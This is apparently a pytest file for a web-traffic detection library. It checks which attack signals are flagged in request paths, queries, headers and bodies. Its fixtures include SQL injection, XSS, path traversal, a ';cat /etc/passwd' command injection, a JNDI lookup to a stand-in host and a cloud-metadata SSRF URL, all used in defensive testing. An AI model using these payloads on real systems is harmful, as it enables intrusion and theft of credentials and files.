"""Signals of calls: what was noticed, where, how often; nothing in ordinary traffic; nothing of the text."""

import json

import pyarrow as pa
import pytest

from wardgate.core.call import CALL_SCHEMA
from wardgate.core.keys import Key
from wardgate.core.observed import HEADERS, observed_table
from wardgate.match.signals.noticing import Noticing
from wardgate.match.signals.shape import ContentRule, Side
from wardgate.recognise.calls import Context, Recognition
from wardgate.recognise.distinct import coded, nothing
from wardgate.recognise.signals import Signals


def signals(targets: list[str], **columns: list[object]) -> list[dict[tuple[str, str], int]]:
    """(rule, place) → count for each row, through all of recognition."""
    kinds = {"request_headers": HEADERS, "request_body": pa.large_binary()}
    table = observed_table(
        {
            "position": pa.array(range(len(targets)), pa.int64()),
            "method": pa.array(["POST" if "request_body" in columns else "GET"] * len(targets)),
            "target": pa.array(targets),
            **{name: pa.array(values, kinds.get(name)) for name, values in columns.items()},
        }
    )
    calls = Recognition(Key(b"s" * 32)).recognise(table, Context("t", 1, 2, 1_700_000_000_000_000)).calls
    assert calls["signals"].type == CALL_SCHEMA.field("signals").type
    assert "canary" not in json.dumps(calls["signals"].to_pylist())
    return [
        {(one["matcher"], one["place"]): one["count"] for one in row or ()}
        for row in calls["signals"].to_pylist()
    ]


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/users/42?page=2&sort=name", {}),
        ("/users?id=1%27%20OR%20%271%27%3D%271&page=2", {("sql-injection", "query:id"): 1}),
        ("/a?q=%3Cscript%3Ealert(1)%3C/script%3E", {("cross-site-scripting", "query:q"): 1}),
        ("/files/..%2f..%2fetc/passwd", {("path-traversal", "path"): 1}),
        (
            "/x?cmd=%3Bcat%20/etc/passwd",
            {("command-injection", "query:cmd"): 1, ("path-traversal", "query:cmd"): 1},
        ),
        ("/x?a=${jndi:ldap://canary.example/a}", {("code-injection", "query:a"): 1}),
        ("/x?api_key=canary0123456789", {("secret-in-url", "query:api_key"): 1}),
        ("/login?user=a&password=canary22", {("secret-in-url", "query:password"): 1}),
        ("/cb?code=SplxlOBeZQQYbYS6WxSbIA&state=xyz", {}),
        ("https://api.example/a?u[$ne]=1", {("nosql-injection", "query:u.$ne"): 1}),
        ("/a?u=http://169.254.169.254/canary", {("server-side-request", "query:u"): 1}),
    ],
)
def test_what_is_noticed_and_where(target: str, expected: dict[tuple[str, str], int]) -> None:
    (found,) = signals([target])
    assert dict.fromkeys(found, 1) == expected


def test_headers_are_asked_in_every_form() -> None:
    attack = "${jndi:ldap://canary.example/a}"
    rows = [[{"name": "X-Api-Version", "value": attack}], [{"name": "Accept", "value": "*/*"}], None]
    found = signals(["/a"] * 3, request_headers=rows, user_agent=[None, None, attack])
    assert [list(one) for one in found] == [
        [("code-injection", "header:x-api-version")], [], [("code-injection", "header:user-agent")],
    ]  # fmt: skip
    (found_one,) = signals(["/a"], **{"req.referer": ["https://a.example/?q=<script>alert(1)</script>"]})
    assert list(found_one) == [("cross-site-scripting", "header:referer")]


def test_bodies_are_asked_value_by_value() -> None:
    bodies = [
        b'{"name": "O\'Brien", "filter": {"q": "1\' or \'1\'=\'1"}, "tags": '
        b'["<script>alert(1)</script>", "fine"]}',
        b'{"name": "fine", "note": "select a plan; it\'s -- well"}',
        b"comment=%3Cscript%3Ealert(1)%3C/script%3E&page=2",
        None,
    ]
    found = signals(["/a"] * 4, request_body=bodies)
    assert found == [
        {("sql-injection", "body:filter.q"): 1, ("cross-site-scripting", "body:tags[]"): 2},
        {},
        {("cross-site-scripting", "body:comment"): 2},
        {},
    ]


def test_a_query_that_is_kept_apart_is_asked_too() -> None:
    (found,) = signals(["/a"], query=["id=1 union select password from users"])
    assert list(found) == [("sql-injection", "query:id")]


def test_rules_of_ones_own_leave_signals_too() -> None:
    rule = ContentRule(
        name="badge",
        title="A badge",
        reference="ours",
        patterns=(r"\bB-\d{6}\b",),
        sides=frozenset({Side.PATH}),
    )
    table = observed_table(
        {"position": pa.array([0, 1], pa.int64()), "target": pa.array(["/a/B-123456", "/b"])}
    )
    targets = coded(["/a/B-123456", "/b"], pa.array([0, 1]).to_numpy())
    found = Signals(Noticing([rule])).of(table, targets, nothing(2), nothing(2), []).to_pylist()
    assert found == [[{"matcher": "badge", "place": "path", "count": 1}], None]
